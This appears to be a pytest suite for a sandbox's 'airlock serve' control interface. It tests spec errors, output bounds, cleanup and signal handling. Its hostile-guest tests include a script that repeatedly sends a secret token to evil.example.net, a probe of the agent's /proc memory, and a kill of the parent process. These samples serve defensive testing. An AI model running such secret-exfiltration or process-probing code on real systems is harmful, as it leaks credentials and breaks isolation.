"""`airlock serve`, the machine interface, on the wire (docs/machine-interface.md): bad specs and
requests, the control channel closing, and a hostile sandbox against its command agent (the agent
is killed, its memory is probed, its output floods, a background process keeps its pipes)."""
import base64
import glob
import json
import os
import socket
import subprocess
import time

import pytest

from netlab import AccessLog, fake_value, wait_for

import sdk_lab

AIRLOCK = os.environ.get("AIRLOCK_BIN", "airlock")


class Serve:
    """airlock serve on a socket pair; events come back as dicts (stdout/stderr decoded)."""

    def __init__(self):
        ours, theirs = socket.socketpair()
        self.proc = subprocess.Popen([AIRLOCK, "serve", "--control-fd", str(theirs.fileno())], pass_fds=[theirs.fileno()],
                                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        theirs.close()
        self.sock = ours
        self.sock.settimeout(60)
        self.file = ours.makefile("rb")

    def request(self, obj):
        self.sock.sendall(json.dumps(obj).encode() + b"\n")

    def event(self):
        try:
            line = self.file.readline()
        except ConnectionResetError:
            return None
        if not line:
            return None
        e = json.loads(line)
        for k in ("stdout", "stderr"):
            if k in e:
                e[k] = base64.b64decode(e[k])
        return e

    def events_until(self, kind):
        out = []
        while True:
            e = self.event()
            assert e is not None, f"the channel closed before a {kind} event: {out}"
            out.append(e)
            if e["type"] == kind:
                return out

    def close(self, timeout=20):
        """Closes the channel; returns airlock's exit status (its stderr is then in self.stderr)."""
        if self.proc.returncode is not None:
            return self.proc.returncode
        self.file.close()  # the socket's descriptor closes with its last file object
        self.sock.close()
        try:
            _, err = self.proc.communicate(timeout=timeout)
            self.stderr = err
            return self.proc.returncode
        finally:
            if self.proc.poll() is None:
                self.proc.kill()
                self.proc.wait()


@pytest.fixture
def serve():
    servers = []

    def start(spec=None):
        s = Serve()
        servers.append(s)
        if spec is not None:
            s.request(spec)
        return s
    yield start
    for s in servers:
        s.close()


def started(serve, spec=None):
    s = serve(spec or {"version": 1})
    e = s.event()
    assert e["type"] == "started", e
    return s


def run(s, rid, argv, **kw):
    s.request(dict(type="run", id=rid, argv=argv, **kw))
    (e,) = [x for x in s.events_until("exited") if x.get("id") == rid]
    return e


@pytest.mark.parametrize("text, message", [
    (b"not json\n", "not valid JSON"),
    (b'{"version": 2}\n', "version 2 is not supported"),
    (b'{"secrets": []}\n', "version is required"),
    (b'{"version": 1, "secrets": [{"env": "K", "value": "v"}]}\n', "at least one"),
    (b'{"version": 1, "network": {"egress": ["allow@"]}}\n', "allow@"),
])
def test_a_bad_spec_is_an_error_event_and_exit_2(serve, text, message):
    s = serve()
    s.sock.sendall(text)
    e = s.event()
    assert e["type"] == "error" and message in e["message"], e
    assert s.event() == {"type": "stopped", "code": 2, "reason": "invalid spec"}
    assert s.event() is None
    assert s.close() == 2


def test_a_spec_error_never_holds_the_value(serve):
    value = fake_value()
    s = serve()
    s.sock.sendall(json.dumps({"version": 1, "secrets": [{"env": "K", "value": value, "allow_hosts": ["a.test"],
                                                          "placeholder": "x\ny"}]}).encode() + b"\n")
    e = s.event()
    assert e["type"] == "error" and "placeholder" in e["message"] and value not in e["message"]
    # A syntax error right after the value: nlohmann's own message would quote it.
    s2 = serve()
    s2.sock.sendall(b'{"version": 1, "secrets": [{"env": "K", "value": "' + value.encode() + b'\x01"}]}\n')
    e = s2.event()
    assert e["type"] == "error" and value not in json.dumps(e)
    for srv in (s, s2):
        srv.close()
        assert value.encode() not in srv.stderr


def test_an_endless_line_is_refused_without_growing(serve):
    s = serve()
    chunk = b" " * (1 << 20)
    try:
        for _ in range(20):  # 20 MiB, no newline: over the 16 MiB limit
            s.sock.sendall(chunk)
    except OSError:
        pass  # airlock closed the channel after refusing it
    e = s.event()
    assert e is None or e["type"] == "error"
    assert s.close() in (0, 2)


def test_closing_the_channel_stops_the_sandbox(serve):
    s = started(serve)
    marker = f"299.{os.getpid()}{int(time.time() * 1000) % 100000}"  # a sleep no one else runs
    e = run(s, 1, ["sh", "-c", f"sleep {marker} & echo $!"])
    assert e["code"] == 0
    mine = lambda: [p for p in glob.glob("/proc/[0-9]*/cmdline") if _read(p) == f"sleep\x00{marker}\x00".encode()]
    wait_for(lambda: mine(), "the sandbox's sleep to start")  # forked before the echo, exec'd soon after
    t = time.monotonic()
    assert s.close() == 0
    assert time.monotonic() - t < 60  # not the sleep's 299 s (it was 15 s: a loaded machine's stall)
    # No process of that sandbox is left (its init is gone with its PID namespace).
    assert not mine()


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def test_bad_requests_are_answered_and_the_sandbox_stays(serve):
    s = started(serve)
    s.sock.sendall(b"garbage\n")
    assert s.event()["type"] == "error"
    s.request({"type": "run", "id": 1, "argv": []})
    e = s.event()
    assert e["type"] == "error" and "argv" in e["message"]
    assert run(s, 2, ["echo", "fine"])["stdout"] == b"fine\n"


def test_the_guest_cannot_reach_into_the_agent(serve):
    # The agent runs the commands and frames their results: a guest that could write its memory
    # could forge what the SDK is told. It is non-dumpable: its memory, environment and
    # descriptors are closed to the guest's other processes (without the prctl, /proc/AGENT/mem
    # opened for writing).
    s = started(serve)
    probe = ("import os\nagent = os.getppid()\n"
             "for p in ('mem', 'environ', 'maps'):\n"
             "    try:\n        open(f'/proc/{agent}/{p}', 'r+b' if p == 'mem' else 'rb').close(); print(p, 'open')\n"
             "    except OSError as e:\n        print(p, e.strerror)\n")
    e = run(s, 1, ["python3", "-"], stdin=base64.b64encode(probe.encode()).decode())
    assert e["stdout"] == b"mem Permission denied\nenviron Permission denied\nmaps Permission denied\n", e


def test_a_killed_agent_ends_the_sandbox_cleanly(serve):
    s = started(serve)
    s.request({"type": "run", "id": 1, "argv": ["sh", "-c", "kill -9 $PPID; sleep 30"]})
    events = s.events_until("stopped")
    errors = [e for e in events if e["type"] == "error"]
    assert errors and errors[0].get("id") == 1, events
    assert events[-1]["code"] != 0
    assert s.close() != 0


def test_output_is_bounded_and_background_pipes_do_not_hold_the_answer(serve):
    s = started(serve)
    e = run(s, 1, ["sh", "-c", "head -c 20000000 /dev/zero"])
    assert len(e["stdout"]) == 8 << 20 and e["stdout_truncated"]
    t = time.monotonic()
    e = run(s, 2, ["sh", "-c", "sleep 100 & echo started"])
    # Answered without waiting for the background sleep's 100 s (the bound was 10 s).
    assert e["stdout"] == b"started\n" and time.monotonic() - t < 50
    assert run(s, 3, ["echo", "next"])["stdout"] == b"next\n"


def test_a_spec_command_runs_once_then_the_sandbox_stops(serve):
    s = serve({"version": 1, "command": ["sh", "-c", "echo one-shot; exit 5"]})
    events = s.events_until("stopped")
    (x,) = [e for e in events if e["type"] == "exited"]
    assert x["id"] == 0 and x["code"] == 5 and x["stdout"] == b"one-shot\n"
    assert events[-1]["code"] == 0


def test_sigint_is_left_to_the_caller_and_sigterm_stops(serve):
    s = started(serve)
    s.proc.send_signal(2)  # a terminal's Ctrl-C reaches the whole foreground group
    assert run(s, 1, ["echo", "still"])["stdout"] == b"still\n"
    s.proc.terminate()
    events = s.events_until("stopped")
    assert events[-1]["code"] == 128 + 15
    assert s.close() == 128 + 15


FLOOD = b"""
import os, socket, ssl, sys, time
# Violations until at least argv[1] of them are made (then /tmp/flood.filled) and the legitimate
# requests are done (/tmp/legit.done), or argv[2] seconds passed: a count, not a time, so a loaded
# machine makes as many as an idle one.
ctx = ssl.create_default_context()
n, deadline = 0, time.time() + float(sys.argv[2])
while time.time() < deadline and (n < int(sys.argv[1]) or not os.path.exists("/tmp/legit.done")):
    try:
        s = ctx.wrap_socket(socket.create_connection(("evil.example.net", 443), timeout=5), server_hostname="evil.example.net")
        s.sendall(b"GET /flood HTTP/1.1\\r\\nHost: evil.example.net\\r\\nAuthorization: Bearer " + os.environ["K"].encode() + b"\\r\\n\\r\\n")
        s.recv(100)
        s.close()
    except OSError:
        pass
    n += 1
    if n == int(sys.argv[1]):
        open("/tmp/flood.filled", "w").close()
print(n)
"""


def test_a_violation_flood_while_the_client_reads_nothing_stalls_nothing(serve):
    # The guest loops on violations while the program that started the sandbox reads no events
    # (the C++ client reads only inside run()). Violation events queue up to a bound and are then
    # dropped and counted; before, serve blocked writing them, stopped reading the gateway's
    # audit pipe, and every gateway thread blocked on its audit write: the guest's legitimate
    # requests hung until the client read again.
    lab, env = sdk_lab.start("airlock-serve-", "alss")
    try:
        s = serve({"version": 1,
                   "secrets": [{"env": "K", "value": fake_value(), "allow_hosts": ["api.example.com"]}],
                   "network": {"on_secret_violation": "block", "egress": [env["AIRLOCK_LAB_EGRESS"]],
                               "dns_servers": [env["AIRLOCK_LAB_DNS"]], "upstream_cas": [{"file": env["AIRLOCK_LAB_CA"]}]},
                   "gateway": {"home": env["AIRLOCK_HOME"]}})
        assert s.event()["type"] == "started"
        assert run(s, 1, ["sh", "-c", "cat > /tmp/flood.py"], stdin=base64.b64encode(FLOOD).decode())["code"] == 0
        legit = ('curl -sS -m 10 -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $K" '
                 'https://api.example.com/flood-legit >> /tmp/legit.out 2>/dev/null')
        # The legitimate requests start once 1000 violations were made (~420 KB of events: more than
        # the socket takes) and the flood goes on until they are done.
        script = (f"python3 /tmp/flood.py 1000 150 > /tmp/flood.out 2>&1 & "
                  f"(for i in $(seq 750); do [ -e /tmp/flood.filled ] && break; sleep 0.2; done; "
                  f"for i in 1 2 3 4 5 6 7 8; do sleep 0.5; {legit}; done; touch /tmp/legit.done) >/dev/null 2>&1 & "
                  f"echo started")
        assert run(s, 2, ["sh", "-c", script])["stdout"] == b"started\n"
        # Reading nothing while the guest floods, until the upstream has the 8 legitimate requests
        # (bounded: a stalled gateway never lets them through, and the assertions below say so).
        access = AccessLog(env["AIRLOCK_LAB_ACCESS_LOG"])
        deadline = time.monotonic() + 180
        while access.count("/flood-legit") < 8 and time.monotonic() < deadline:
            time.sleep(0.2)
        s.request({"type": "run", "id": 3, "argv": ["sh", "-c", "for i in $(seq 300); do [ -s /tmp/flood.out ] && break; sleep 0.2; done; "
                                                     "cat /tmp/legit.out /tmp/flood.out"]})
        events = s.events_until("exited")
        out = events[-1]["stdout"].decode().split()
        violations = sum(e["type"] == "violation" for e in events)
        dropped = [e for e in events if e["type"] == "warning" and "dropped" in e["message"]]
        flood = int(out[-1])
        print(f"{flood} violations made, {violations} reported, {len(dropped)} dropped warnings")
        assert flood > 1000, out  # enough to fill the socket (an event is ~420 bytes)
        assert out[:-1] == ["200"] * 8, f"legit requests during the flood: {out[:-1]}"
        assert violations + sum(int(e["message"].split()[0]) for e in dropped) <= flood
        assert violations > 0
    finally:
        lab.close()
